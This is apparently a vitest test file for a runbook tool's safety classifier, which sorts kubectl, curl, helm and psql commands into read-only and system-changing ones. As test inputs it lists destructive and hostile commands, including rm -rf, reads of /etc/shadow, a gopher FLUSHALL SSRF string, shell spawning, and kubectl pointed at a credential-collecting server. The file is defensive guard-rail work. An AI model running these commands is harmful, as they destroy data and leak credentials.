import { describe, expect, it } from 'vitest';
import { effectOf, effectOfParsed, identityRefusal, shellRefusal, wordsOf } from '../../src/runbook/effects.js';
import { parseCommand } from '../../src/runbook/command.js';

/** Splits like the runbook parser does; placeholders stay as written. */
const effect = (text: string, declared?: string) => {
  const parsed = parseCommand(text);
  if (!parsed.ok) throw new Error(parsed.error.message);
  return effectOfParsed(parsed.command, declared);
};
const readOnly = (text: string, declared?: string) => effect(text, declared).readOnly;

describe('what a command does to the system, decided by what it runs', () => {
  it.each([
    'kubectl get pods -n bud-system',
    'kubectl --context prod -n bud-data get pods -o wide',
    'kubectl describe pod -n {{ns}} {{pod}}',
    'kubectl logs -n bud-system deployment/budapp --tail=200 | grep -i error',
    'kubectl get events -n x --sort-by=.lastTimestamp | head -20',
    'kubectl top nodes',
    'kubectl rollout history deployment/budapp -n bud-system',
    'kubectl rollout status deployment/budapp',
    'kubectl auth can-i delete pods',
    'kubectl version',
    'kubectl config current-context',
    'kubectl exec -n bud-data postgres-0 -- pg_isready',
    'kubectl exec -n w vllm-0 -- nvidia-smi --query-gpu=index,memory.used --format=csv,noheader',
    'curl -sS --max-time 15 {{url}}/health',
    'curl -sSf -H "Authorization: Bearer $TOKEN" https://api.example.com/endpoints | jq .',
    'curl -sS -o /dev/null -w "%{http_code}" https://x.example.com',
    'curl -I https://x.example.com',
    'curl -G -d q=1 https://x.example.com/search',
    'curl -X GET https://x.example.com',
    'dapr status -k',
    'helm list -A',
    'echo fine',
    'sleep 1',
    'date',
    'date +%s',
    'date -u +%FT%T',
    'hostname -f',
    'kubectl exec p -- date',
    'curl -g http://[::1]:8080/health',
    'find /var/lib/postgresql -name "*.conf"',
  ])('read-only: %s', (text) => expect(readOnly(text)).toBe(true));

  it.each([
    ['kubectl delete pod x', /kubectl delete changes the system/],
    ['kubectl -n bud-data delete namespace bud-data', /kubectl delete/],
    ['kubectl rollout restart deployment/budapp', /kubectl rollout restart changes/],
    ['kubectl rollout undo deployment/budapp', /rollout undo/],
    ['kubectl scale deployment/budapp --replicas=0', /kubectl scale/],
    ['kubectl apply -f x.yaml', /kubectl apply/],
    ['kubectl config use-context prod', /config use-context/],
    ['kubectl {{verb}} pods', /verb comes from a value/],
    ['kubectl port-forward svc/x 8080', /port-forward/],
    ['kubectl exec pod -- rm -rf /data', /rm changes or stops/],
    ['kubectl exec pod -- timeout 5 psql', /timeout runs another program/],
    ['curl -X POST https://x.example.com/restart', /-X POST/],
    ['curl -XDELETE https://x.example.com/a', /-X DELETE/],
    ['curl -sd a=b https://x.example.com', /sends data/],
    ['curl --data-binary @f https://x.example.com', /sends data/],
    ['curl -o /etc/passwd https://x.example.com', /writes a file/],
    ['curl -sSO https://x.example.com/f', /writes a file/],
    ['curl -K cfg https://x.example.com', /reads its options/],
    ['curl file:///etc/shadow', /file:\/\//],
    ['curl -T f https://x.example.com', /uploads/],
    ['dapr uninstall -k', /dapr uninstall/],
    ['helm rollback budapp 3', /helm rollback/],
    ['nvidia-smi -r', /nvidia-smi -r/],
    ['kubectl get pods | sort -o /tmp/x', /sort -o/],
    ['touch /tmp/marker', /touch changes or stops things/],
    ['date -s 2020-01-01', /sets the clock/],
    ['date -s2020-01-01', /sets the clock/],
    ['date 010100002020', /sets the clock/],
    ['hostname pwned', /sets the host name/],
    ['kubectl exec p -- date -s 2020-01-01', /sets the clock/],
    ['kubectl get pods --profile=goroutine --profile-output=/home/x/.bashrc', /--profile(-output)? writes files/],
    ['kubectl get pods --cache-dir=/tmp/x', /--cache-dir writes files/],
    ['curl -sS {http://127.0.0.1:6379/health,gopher://127.0.0.1:6379/_FLUSHALL}', /expands \{…\}/],
    ['curl http://127.0.0.1/[1-9]', /expands/],
    ['curl ftp.example.com', /guess a non-HTTP protocol/],
    ['curl --proto-default ftp example.com', /proto-default ftp/],
    ['find /var/lib -name x -delete', /find with -delete/],
    ['sed -i s/a/b/ /etc/hosts', /sed can write files/],
    ['awk \'BEGIN{system("id")}\'', /awk can write files and run programs/],
  ])('changes: %s', (text, why) => {
    const e = effect(text);
    expect(e.readOnly).toBe(false);
    if (!e.readOnly) expect(e.why).toMatch(why);
  });

  it('psql may be declared read-only only for one query that reads', () => {
    const psql = (sql: string) => effect(`kubectl exec -n d pg-0 -- psql -U postgres -Atc "${sql}"`, 'only reads');
    expect(psql('select application_name, state from pg_stat_replication').readOnly).toBe(true);
    expect(psql('SHOW max_connections').readOnly).toBe(true);
    for (const sql of [
      'DROP DATABASE bud',
      'select 1; drop table users',
      'select pg_terminate_backend(123)',
      'select * into copy_of_users from users',
      "select set_config('x', 'y', false)",
      'explain analyze delete from users',
      'update users set admin = true',
      "select nextval('s')",
    ])
      expect(psql(sql).readOnly, sql).toBe(false);
    expect(effect('psql -f /tmp/script.sql', 'only reads').readOnly).toBe(false);
    expect(effect('psql', 'only reads').readOnly).toBe(false);
  });

  it('a runbook may declare an unknown program read-only, never a known change', () => {
    const psql = 'kubectl exec -n d pg-0 -- psql -U postgres -Atc "select 1"';
    expect(readOnly(psql)).toBe(false);
    expect(effect(psql, 'a SELECT')).toEqual({ readOnly: true, declared: 'a SELECT' });
    expect(readOnly('kubectl exec d -- python -c "print(1)"', 'prints')).toBe(true);
    expect(readOnly('kubectl delete pod x', 'it is fine')).toBe(false);
    expect(readOnly('curl -X POST https://x', 'it is fine')).toBe(false);
    expect(readOnly('kubectl exec p -- rm -rf /', 'it is fine')).toBe(false);
    expect(readOnly('timeout 5 kubectl delete pod x', 'it is fine')).toBe(false);
    expect(readOnly('{{tool}} get pods', 'it is fine')).toBe(false);
  });

  it.each([
    ['sh', '-c', 'kubectl delete pod x'],
    ['bash', '-lc', 'true'],
    ['/bin/sh', 'script.sh'],
    ['kubectl', 'exec', 'p', '--', 'sh', '-c', 'rm -rf /'],
    ['timeout', '5', 'bash'],
    ['env', 'X=1', 'zsh', '-c', 'x'],
  ])('a shell is refused: %s', (...argv) => {
    expect(shellRefusal([argv])).toMatch(/runs a shell/);
    expect(effectOf([argv], 'declared').readOnly).toBe(false);
  });

  it('words that merely mention a shell are not shells', () => {
    expect(
      shellRefusal([
        ['kubectl', 'get', 'pods'],
        ['grep', 'bash'],
      ]),
    ).toBeUndefined();
    expect(
      shellRefusal([
        ['kubectl', 'logs', 'x'],
        ['grep', '-c', 'sh'],
      ]),
    ).toBeUndefined();
  });

  it('the verdict at run time sees the filled values', () => {
    expect(effectOf([['curl', 'https://x.example.com']]).readOnly).toBe(true);
    expect(effectOf([['curl', 'gopher://x.example.com']]).readOnly).toBe(false);
    expect(effectOf([['kubectl', 'delete', 'pod', 'x']]).readOnly).toBe(false);
  });
});

describe('a runbook may not choose where kubectl sends the credentials', () => {
  const refusal = (text: string) => {
    const parsed = parseCommand(text);
    if (!parsed.ok) throw new Error(parsed.error.message);
    return identityRefusal(wordsOf(parsed.command));
  };
  it.each([
    'kubectl -shttps://collector.example.com get pods',
    'kubectl get pods -Ashttps://collector.example.com',
    'kubectl get pods -As https://collector.example.com',
    'helm list -A --kube-apiserver https://collector.example.com',
    'helm status x --kube-token abc',
    'helm list --kubeconfig=/tmp/k',
    'helm list --kube-context prod',
    'kubectl --server=https://collector.example.com get pods',
    'kubectl -s https://x get pods',
    'kubectl get pods --token abc',
    'kubectl --kubeconfig /tmp/k get pods',
    'kubectl get pods --insecure-skip-tls-verify',
  ])('%s is refused', (text) => expect(refusal(text)).toMatch(/chooses the server or the credentials/));
  it('flags after `kubectl exec … --` belong to the program in the pod', () => {
    expect(refusal('kubectl exec p -- psql -s x')).toBeUndefined();
    expect(refusal('kubectl get pods -n bud-system -o wide')).toBeUndefined();
  });
});
